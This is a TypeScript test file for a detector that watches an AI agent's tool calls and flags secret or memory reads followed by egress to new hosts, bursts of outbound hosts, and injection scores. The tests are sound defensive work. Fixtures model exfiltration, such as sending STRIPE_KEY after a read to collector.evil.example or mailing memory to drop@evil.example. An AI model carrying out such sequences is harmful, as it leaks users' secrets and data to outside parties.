import { describe, expect, it } from "vitest";
import {
  advanceAnomalies,
  classifyToolCall,
  DEFAULT_ANOMALY_CONFIG,
  detectAnomalies,
  initialAnomalyState,
} from "../../../core/untrusted";
import type { ToolCallRecord } from "../../../core/untrusted";

const fetch = (url: string, at: number, extra: Record<string, unknown> = {}): ToolCallRecord => ({
  tool: "http_fetch",
  args: { url, ...extra },
  at,
});
const memoryRead = (at: number): ToolCallRecord => ({
  tool: "memory",
  args: { action: "read", key: "notes" },
  at,
});

describe("classifyToolCall", () => {
  it("classifies egress, memory reads and secret references", () => {
    expect(classifyToolCall(fetch("https://API.example.com/x", 1))).toEqual([
      { type: "egress", at: 1, tool: "http_fetch", host: "api.example.com" },
    ]);
    expect(classifyToolCall(memoryRead(2))).toEqual([{ type: "memory_read", at: 2 }]);
    expect(classifyToolCall({ tool: "memory", args: { action: "write" }, at: 3 })).toEqual([
      { type: "other", at: 3, tool: "memory" },
    ]);
    expect(classifyToolCall({ tool: "memory_search", args: {}, at: 4 })).toEqual([
      { type: "memory_read", at: 4 },
    ]);
    expect(
      classifyToolCall(
        fetch("https://api.github.com/user", 5, {
          headers: { authorization: "Bearer secret:GH_TOKEN" },
        }),
      ),
    ).toEqual([
      { type: "egress", at: 5, tool: "http_fetch", host: "api.github.com" },
      { type: "secret_read", at: 5, name: "GH_TOKEN" },
    ]);
    expect(classifyToolCall({ tool: "vault_read", args: { name: "DB" }, at: 6 })).toEqual([
      { type: "secret_read", at: 6, name: "DB" },
    ]);
    expect(
      classifyToolCall({
        tool: "send_email",
        args: { to: ["a@One.example", "Bob <b@two.example>"] },
        at: 7,
      }),
    ).toEqual([
      { type: "egress", at: 7, tool: "send_email", host: "one.example" },
      { type: "egress", at: 7, tool: "send_email", host: "two.example" },
    ]);
    expect(classifyToolCall(fetch("not a url", 8))).toEqual([
      { type: "other", at: 8, tool: "http_fetch" },
    ]);
  });
});

describe("sensitive read followed by a new host", () => {
  it("flags egress to a host first seen after a secret is read", () => {
    const anomalies = detectAnomalies([
      fetch("https://docs.example.com/a", 0),
      { tool: "vault_read", args: { name: "STRIPE_KEY" }, at: 1_000 },
      fetch("https://docs.example.com/b", 2_000),
      fetch("https://collector.evil.example/c", 3_000),
    ]);
    expect(anomalies).toEqual([
      {
        kind: "sensitive_read_then_new_host",
        detail:
          "http_fetch to collector.evil.example, a host not contacted before in this session, after reading secret STRIPE_KEY",
        at: 3_000,
      },
    ]);
  });

  it("flags egress after a memory read, and by email", () => {
    const anomalies = detectAnomalies([
      memoryRead(0),
      { tool: "send_email", args: { to: "drop@evil.example" }, at: 10 },
    ]);
    expect(anomalies.map((a) => a.kind)).toEqual(["sensitive_read_then_new_host"]);
    expect(anomalies[0]!.detail).toContain("send_email to evil.example");
    expect(anomalies[0]!.detail).toContain("after reading memory");
  });

  it("does not flag a host already seen before the read, nor egress with no read", () => {
    expect(
      detectAnomalies([
        fetch("https://a.example/", 0),
        memoryRead(1),
        fetch("https://A.example./x", 2),
      ]),
    ).toEqual([]);
    expect(
      detectAnomalies([fetch("https://a.example/", 0), fetch("https://b.example/", 1)]),
    ).toEqual([]);
  });

  it("lets a secret go to the host of the call that uses it, but taints later new hosts", () => {
    const withSecret = fetch("https://api.github.com/user", 0, { auth: "secret:GH" });
    expect(detectAnomalies([withSecret])).toEqual([]);
    const later = detectAnomalies([withSecret, fetch("https://paste.example/", 1)]);
    expect(later.map((a) => a.kind)).toEqual(["sensitive_read_then_new_host"]);
    expect(later[0]!.detail).toContain("secret GH");
  });

  it("honours a taint window when configured", () => {
    const config = { ...DEFAULT_ANOMALY_CONFIG, sensitiveReadTaintMs: 60_000 };
    expect(detectAnomalies([memoryRead(0), fetch("https://x.example/", 60_001)], config)).toEqual(
      [],
    );
    expect(
      detectAnomalies([memoryRead(0), fetch("https://x.example/", 60_000)], config),
    ).toHaveLength(1);
  });
});

describe("egress bursts", () => {
  const hosts = (n: number, start: number, step: number): ToolCallRecord[] =>
    Array.from({ length: n }, (_, i) => fetch(`https://h${i}.example/`, start + i * step));

  it("flags five distinct hosts within 60 s, once per burst", () => {
    const anomalies = detectAnomalies(hosts(8, 0, 1_000));
    expect(anomalies).toEqual([
      { kind: "egress_burst", detail: "5 distinct hosts contacted within 60 s", at: 4_000 },
    ]);
  });

  it("does not flag the same number of hosts spread beyond the window, or repeats of one host", () => {
    expect(detectAnomalies(hosts(10, 0, 15_001))).toEqual([]);
    const same = Array.from({ length: 20 }, (_, i) => fetch("https://one.example/", i));
    expect(detectAnomalies(same)).toEqual([]);
  });

  it("re-arms after the rate drops and uses configurable parameters", () => {
    const calls = [
      ...hosts(5, 0, 100),
      ...hosts(5, 200_000, 100).map((c, i) => fetch(`https://k${i}.example/`, c.at)),
    ];
    expect(detectAnomalies(calls).map((a) => a.at)).toEqual([400, 200_400]);
    const config = { ...DEFAULT_ANOMALY_CONFIG, burstDistinctHosts: 3, burstWindowMs: 10_000 };
    expect(detectAnomalies(hosts(3, 0, 4_000), config).map((a) => a.kind)).toEqual([
      "egress_burst",
    ]);
    expect(detectAnomalies(hosts(3, 0, 6_000), config)).toEqual([]);
  });
});

describe("advanceAnomalies", () => {
  it("is pure: it never mutates the state it is given, and the state is plain JSON", () => {
    const s0 = initialAnomalyState();
    const frozen = JSON.stringify(s0);
    const { state: s1 } = advanceAnomalies(s0, {
      type: "egress",
      at: 1,
      tool: "http_fetch",
      host: "a.example",
    });
    expect(JSON.stringify(s0)).toBe(frozen);
    expect(JSON.parse(JSON.stringify(s1))).toEqual(s1);
    expect(s1.seenHosts).toEqual(["a.example"]);
    const { state: s2, anomalies } = advanceAnomalies(s1, { type: "other", at: 2, tool: "x" });
    expect(s2).toBe(s1);
    expect(anomalies).toEqual([]);
  });
});

describe("injection score in the anomaly state", () => {
  it("keeps the highest injection score of untrusted content read, from 0", () => {
    let state = initialAnomalyState();
    expect(state.injectionScore).toBe(0);
    for (const score of [0.2, 0.91, 0.4]) {
      state = advanceAnomalies(state, {
        type: "untrusted_content",
        at: 1,
        tool: "http_fetch",
        score,
      }).state;
    }
    expect(state.injectionScore).toBe(0.91);
  });

  it("reads a state saved before the field existed as 0", () => {
    const { injectionScore: _, ...old } = initialAnomalyState();
    const next = advanceAnomalies(old, { type: "untrusted_content", at: 1, tool: "t", score: 0.3 });
    expect(next.state.injectionScore).toBe(0.3);
    expect(next.anomalies).toEqual([]);
  });
});
